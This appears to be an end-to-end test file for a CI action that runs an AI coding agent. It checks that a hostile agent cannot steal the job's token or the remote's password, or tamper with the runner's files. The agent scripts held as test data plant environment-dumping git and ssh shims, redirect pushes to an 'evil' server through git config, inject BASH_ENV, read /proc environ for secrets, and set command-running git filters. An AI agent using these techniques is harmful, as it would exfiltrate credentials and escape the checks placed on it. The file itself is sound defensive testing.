// What an agent without a sandbox cannot reach or change: the token of the push, the runner's files, a remote's password.
// @module-tag e2e
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { writeAgent } from "../kit/agent.ts";
import { GitServer } from "../kit/git-server.ts";
import { Step } from "../kit/step.ts";
import { Workshop } from "../kit/workshop.ts";

const token = "ghs_a-token-of-the-job-4711";
const password = "url-pass-word-4711";

/** A job on a checkout whose remote is a server on loopback, and an agent that does what `body` says. */
function job(workshop: Workshop, server: GitServer, body: string) {
  const bare = join(workshop.folder, "served/lab.git");
  if (!existsSync(bare)) workshop.git("clone", "--quiet", "--bare", workshop.repository, bare);
  const step = new Step(workshop);
  const files = { GITHUB_ENV: join(step.temporary, "env"), GITHUB_PATH: join(step.temporary, "path") };
  for (const file of Object.values(files)) writeFileSync(file, "");
  const bin = join(workshop.folder, "bin");
  mkdirSync(bin);
  const environment = {
    GITHUB_ENV: files.GITHUB_ENV,
    GITHUB_PATH: files.GITHUB_PATH,
    GITHUB_SERVER_URL: server.address,
    PATH: `${bin}:${workshop.environment.PATH}`,
  };
  const here = JSON.stringify({ bin, mark: join(workshop.folder, "mark"), files: Object.values(files) });
  const script = `
    const here = ${here};
    const git = (...args) => execFileSync("git", args, { encoding: "utf8" });
    ${body}`;
  const inputs = {
    "agent-command": writeAgent(workshop, script),
    "github-token": token,
    push: "auto",
    "max-iterations": "+1",
  };
  return { step, bare, environment, inputs, files };
}

function served(workshop: Workshop): string {
  const folder = join(workshop.folder, "served");
  mkdirSync(folder);
  return folder;
}

const plants = (evil: string) => `
  const spy = "#!/bin/sh\\nenv >>" + here.mark + "\\n";
  for (const name of ["git", "ssh", "git-remote-http", "git-credential-evil"])
    fs.writeFileSync(here.bin + "/" + name, spy, { mode: 0o755 });
  fs.writeFileSync(here.bin + "/git", spy + 'exec /usr/bin/git "$@"\\n', { mode: 0o755 });
  for (const [name, value] of Object.entries({
    "http.proxy": "${evil}", "http.sslVerify": "false", "url.${evil}/.insteadOf": "http://",
    "credential.helper": "evil", "remote.origin.pushurl": "${evil}/lab.git", "core.askPass": here.bin + "/ssh",
  })) git("config", name, value);
  for (const file of here.files) fs.appendFileSync(file, "BASH_ENV=/tmp/evil.sh\\n");
  fs.appendFileSync(here.files[0].replace(/env$/, "state"), "saved=true\\n");
  console.log(fs.readFileSync(".git/config", "utf8"));
  work(); propose();`;

test("neither this run nor the next one sends the token where an agent wants it, and files and settings are put back", {
  tags: ["main"],
}, async () => {
  using workshop = new Workshop([
    { id: "A", verify: "test -e work-A.txt" },
    { id: "B", verify: "test -e work-B.txt" },
  ]);
  const root = served(workshop);
  await using server = await GitServer.open(root);
  await using evil = await GitServer.open(root);
  const { step, bare, environment, inputs, files } = job(workshop, server, plants(evil.address));
  const address = server.address.replace("http://", `http://me:${password}@`);
  workshop.git("remote", "add", "origin", `${address}/lab.git`);
  const tips: string[] = [];
  for (const _ of ["first", "next"]) {
    const main = await step.main(inputs, environment).ended;
    expect(main.code, main.stdout).toBe(0);
    expect(main.stdout).toContain("removed: BASH_ENV=/tmp/evil.sh");
    expect(main.stdout).not.toContain(password);
    expect(workshop.git("remote", "get-url", "--all", "origin").trim().split("\n")[0]).toContain(password);
    expect(Object.values(files).map((file) => readFileSync(file, "utf8"))).toEqual(["", ""]);
    tips.push(workshop.git("--git-dir", bare, "rev-parse", "refs/heads/ralph/x"));
  }
  expect(new Set(tips).size).toBe(2);
  expect(step.files().outputs).toMatchObject({ status: "complete", pushed: "true" });
  expect(server.authorized.length).toBeGreaterThan(0);
  expect(evil.requests).toEqual([]);
  const mark = join(workshop.folder, "mark");
  expect(existsSync(mark) ? readFileSync(mark, "utf8") : "").not.toMatch(/authorization/i);
});

test("after a kill, the post step puts the password of the remote back, and the files of the runner, too", async () => {
  using workshop = new Workshop([{ id: "A" }]);
  await using server = await GitServer.open(served(workshop));
  const body = `
    for (const file of here.files) fs.appendFileSync(file, "BASH_ENV=/tmp/evil.sh\\n");
    fs.writeFileSync(here.mark, fs.readFileSync(".git/config", "utf8"));
    await new Promise((resolve) => setTimeout(resolve, 100_000));`;
  const { step, environment, inputs, files } = job(workshop, server, body);
  const address = `${server.address.replace("http://", `http://me:${password}@`)}/lab.git`;
  workshop.git("remote", "add", "origin", address);
  const main = step.main(inputs, environment);
  const mark = join(workshop.folder, "mark");
  await main.created(mark);
  process.kill(main.child.pid ?? 0, "SIGKILL");
  await main.ended;
  expect(readFileSync(mark, "utf8")).toMatch(/url = "?http:\/\/127\.0\.0\.1:\d+\/lab\.git/);
  expect(workshop.git("remote", "get-url", "origin")).not.toContain(password);
  // The agent could have written this before it killed the run.
  const state = { handoff: step.files().state.handoff ?? "", saved: "true" };
  const post = await step.post({ "INPUT_GITHUB-TOKEN": token, ...environment }, state).ended;
  expect(post.code).toBe(0);
  expect(post.stdout).toContain("removed: BASH_ENV=/tmp/evil.sh");
  expect(post.stdout).not.toContain(password);
  expect(workshop.git("remote", "get-url", "--all", "origin").trim()).toBe(address);
  expect(Object.values(files).map((file) => readFileSync(file, "utf8"))).toEqual(["", ""]);
});

test("no process of the run shows the tokens with which it was started, or lets an agent debug it", async () => {
  using workshop = new Workshop([{ id: "A" }]);
  await using server = await GitServer.open(served(workshop));
  const body = `
    const read = (pid, name) => { try { return fs.readFileSync("/proc/" + pid + "/" + name, "utf8"); } catch { return ""; } };
    const pids = fs.readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name) && name !== String(process.pid));
    const seen = pids.flatMap((pid) => read(pid, "environ").split("\\0").filter((each) => each.includes("4711-canary")));
    const main = pids.filter((pid) => read(pid, "cmdline").includes("main.cjs") &&
      read(pid, "environ").includes("RALPH_TEST_MARK=" + process.env.RALPH_TEST_MARK));
    for (const pid of main) process.kill(pid, "SIGUSR1");
    fs.writeFileSync(here.mark, JSON.stringify({ seen, found: main.length }));
    work(); propose();`;
  const { step, environment, inputs } = job(workshop, server, body);
  const secrets = {
    "INPUT_GITHUB-TOKEN": "ghs_a-token-of-the-job-4711-canary",
    ACTIONS_RUNTIME_TOKEN: "runtime-4711-canary",
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: "oidc-4711-canary",
    "INPUT_ZITI-IDENTITY": '{"id":{"key":"pem:4711-canary"}}',
    PLAIN_NAME: "plain-4711-canary",
  };
  const main = await step.main({ ...inputs, push: "never", attach: "off" }, { ...environment, ...secrets })
    .ended;
  expect(main.code, main.stdout).toBe(0);
  expect(JSON.parse(readFileSync(join(workshop.folder, "mark"), "utf8"))).toEqual({ seen: [], found: 1 });
  expect(main.stderr).not.toMatch(/debugger|inspector/i);
});

test("git runs nothing that an agent's settings name, wherever it has put them", async () => {
  using workshop = new Workshop([{ id: "A", verify: "test -e work-A.txt" }]);
  const mark = join(workshop.folder, "mark");
  const agent = `
    const git = (folder, ...args) =>
      execFileSync("git", ["-C", folder, "-c", "user.name=a", "-c", "user.email=a@b", ...args], { encoding: "utf8" });
    const evil = (folder) => {
      git(folder, "config", "filter.x.clean", "touch ${mark}; cat");
      git(folder, "config", "filter.x.required", "true");
    };
    git(".", "init", "-q", "lib");
    fs.writeFileSync("lib/a.txt", "1");
    fs.writeFileSync("lib/.gitattributes", "* filter=x\\n");
    git("lib", "add", "."); git("lib", "commit", "-qm", "lib");
    fs.writeFileSync(".gitmodules", '[submodule "lib"]\\n\\tpath = lib\\n\\turl = ../lib\\n');
    git(".", "add", "lib", ".gitmodules");
    evil("lib");
    fs.writeFileSync("lib/a.txt", "2");
    fs.writeFileSync(".gitattributes", "*.txt filter=x\\n");
    work(); propose();
    fs.cpSync(".git", "other", { recursive: true });
    git(".", "config", "-f", "other/config", "filter.x.clean", "touch ${mark}; cat");
    fs.writeFileSync(".git/commondir", "../other");
    fs.writeFileSync(".git/info/grafts", git(".", "rev-parse", "HEAD"));`;
  const { code, stderr } = await workshop.run(writeAgent(workshop, agent), "--max-iterations", "1");
  expect(code, stderr).toBe(2);
  expect(stderr).toContain("files in this submodule are changed");
  for (const name of ["commondir", "info/grafts"]) {
    expect(stderr).toMatch(new RegExp(`Warning: \\S+/\\.git/${name} was added, .*; it was removed`));
    expect(existsSync(join(workshop.repository, ".git", name))).toBe(false);
  }
  expect(existsSync(mark)).toBe(false);
});
